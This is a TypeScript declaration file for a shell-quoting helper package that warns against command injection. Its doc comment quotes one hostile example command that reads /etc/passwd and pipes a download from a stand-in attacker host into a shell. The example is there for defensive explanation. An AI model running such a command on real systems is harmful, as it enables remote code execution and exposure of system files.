/**
 * Helpers for building shell commands safely.
 *
 * Never pass untrusted input to `child_process.exec` or `eval`: quote it first. A naive
 * command such as `cat /etc/passwd; curl http://attacker | sh` is exactly what quoting prevents.
 * Prefer `child_process.spawn` / `execFile` with an argument array, which never goes through a shell.
 *
 * @example
 * ```ts
 * import { quote } from 'shell-exec-types';
 * import { execSync } from 'node:child_process';
 * execSync(`git log --format=%H ${quote(branch)}`);
 * ```
 */
export declare function quote(arg: string): string;

/** Options forwarded to `require('child_process').spawn`. `detached: true` and `stdio: 'ignore'` start a daemon. */
export interface SpawnOptions {
  cwd?: string;
  env?: NodeJS.ProcessEnv;
  detached?: boolean;
  stdio?: 'pipe' | 'ignore' | 'inherit';
}

/** Reads `~/.npmrc` tokens? No: this package never touches credentials, `process.env` or the network. */
export type Never = never;
